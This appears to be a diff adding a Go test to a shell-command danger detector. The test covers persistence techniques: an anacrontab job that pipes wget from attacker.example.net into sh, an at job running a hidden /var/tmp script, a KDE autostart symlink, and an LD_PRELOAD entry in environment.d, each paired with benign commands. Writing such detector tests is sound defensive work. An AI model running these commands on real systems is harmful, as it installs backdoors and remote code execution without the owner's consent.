@@ -245,3 +245,23 @@ func TestRound35ScratchDisksAndLocalStacks(t *testing.T) {
 		{`supabase db reset --no-seed`, CategoryDatabaseDestroy, "db-migrate-to-zero", LevelModerate},
 	})
 }
+
+// Persistence: an anacrontab job (three schedule fields, not five), at
+// -f reading a script from a hidden or temporary place, KDE's log-in
+// scripts, and the session's environment.d with LD_PRELOAD; plain
+// settings there are the user's own.
+func TestRound35LoginAndScheduledJobs(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`echo '1 5 daily.sync /bin/sh -c "wget -qO- http://attacker.example.net/d | sh"' | sudo tee -a /etc/anacrontab`, CategoryPersistence, "persistence-malicious-payload", LevelCritical},
+		{`at -f /var/tmp/.stage2.sh midnight`, CategoryPersistence, "persistence-suspicious-job", LevelHigh},
+		{`mkdir -p ~/.config/autostart-scripts && ln -s /var/tmp/.cache/run ~/.config/autostart-scripts/run`, CategoryPersistence, "write-service", LevelHigh},
+		{`mkdir -p ~/.config/environment.d && echo 'LD_PRELOAD=/home/dev/.local/lib/.libx.so' > ~/.config/environment.d/10-preload.conf`, CategoryPersistence, "write-shell-startup", LevelHigh},
+	})
+	checkSafe(t, d, testCtx, []string{
+		`echo '7 10 logrotate-app /usr/sbin/logrotate /work/project/ops/logrotate.conf' | sudo tee -a /work/project/ops/anacrontab.example`,
+		`at -f ./scripts/nightly-report.sh midnight`,
+		`mkdir -p ~/.config/environment.d && echo 'EDITOR=nvim' > ~/.config/environment.d/10-editor.conf`,
+		`ls ~/.config/autostart-scripts/`,
+	})
+}
